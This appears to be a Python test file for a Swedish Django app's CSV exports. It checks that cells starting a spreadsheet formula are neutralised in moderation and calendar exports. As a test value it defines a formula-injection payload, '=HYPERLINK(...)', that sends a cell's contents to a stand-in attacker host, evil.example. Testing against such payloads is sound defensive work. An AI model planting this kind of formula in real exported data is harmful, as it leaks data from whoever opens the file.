"""Every CSV export goes through helsocial/csv_export.py: formulas neutralised, Swedish headings,
never cached."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from helsocial.csv_export import FORMULA_STARTS, csv_cell, csv_lines
from moderation.ingest import comments_ingest
from moderation.models import Comment, ModerationLogEntry
from tests.calendar_booking.helpers import at, book
from tests.moderation.helpers import remote

ROOT = Path(__file__).resolve().parents[2]
APPS = ("accounts", "calendar_booking", "moderation", "metrics", "helsocial")
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'


def read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads å, ä, ö only with the byte-order mark
    return list(csv.reader(io.StringIO(body[1:])))


@pytest.mark.parametrize("start", [*FORMULA_STARTS])
def test_a_cell_starting_a_formula_stays_text(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Anna", "1+1", "a=b", "", None, 12, "'=quoted"])
def test_other_cells_are_left_alone(value):
    assert csv_cell(value) == ("" if value is None else str(value))


@given(st.lists(st.lists(st.text(max_size=30), max_size=4), max_size=5))
def test_no_cell_of_any_row_reads_back_as_a_formula(rows):
    lines = "".join(csv_lines(["h"], rows))
    for row in csv.reader(io.StringIO(lines.lstrip("\ufeff"), newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_no_module_writes_csv_but_the_one_helper():
    writers = [
        path.relative_to(ROOT)
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if "migrations" not in path.parts
        and path.name != "csv_export.py"
        and re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.M)
    ]
    assert writers == [], f"write CSV through helsocial.csv_export: {writers}"


@pytest.mark.django_db
def test_a_formula_in_a_moderators_name_is_neutralised_in_the_moderation_export(akn_client, kc_user, account):
    # The finding: a profile's first name landed unescaped in the "handled by" column.
    kc_user.first_name, kc_user.last_name = HYPERLINK, "@SUM(A1:A9)"
    kc_user.save()
    comments_ingest(account=account, items=[remote("c1", "-2+3 tycker jag")])
    comment = Comment.objects.get()
    account.name = "+46 42 10 50 00"
    account.save()
    ModerationLogEntry.objects.create(
        comment_id=comment.pk, actor=kc_user, action="no_action", rule="opinion", at=at("2026-03-01 10:00")
    )
    response = akn_client.get(reverse("moderation:export-csv"), {"from": "2026-03-01", "to": "2026-03-01"})
    assert response["Cache-Control"] == "private, no-store"
    header, row = read(response)
    assert header == [
        "Hanterad",
        "Hanterad av",
        "Åtgärd",
        "Utfall",
        "Regel i riktlinjerna",
        "Kommentarens id",
        "Konto",
        "Plattform",
        "Mottagen",
        "Svara senast",
        "Etiketter",
        "Status",
    ]
    handled_by = row[header.index("Hanterad av")]
    assert handled_by == f"'{HYPERLINK} @SUM(A1:A9)"
    assert row[header.index("Konto")] == "'+46 42 10 50 00"
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


@pytest.mark.django_db
def test_a_formula_in_a_booking_is_neutralised_in_the_calendar_export(
    communicator_client, communicator, administration, citywide_account
):
    book(communicator, administration, (citywide_account, "2026-12-02 10:00"), title=HYPERLINK)
    response = communicator_client.get(
        reverse("calendar_booking:booking-export"), {"from": "2026-12-01", "to": "2026-12-03"}
    )
    assert response["Cache-Control"] == "private, no-store"
    header, row = read(response)
    assert header[:3] == ["Börjar", "Slutar", "Konto"]
    assert row[header.index("Titel")] == f"'{HYPERLINK}"
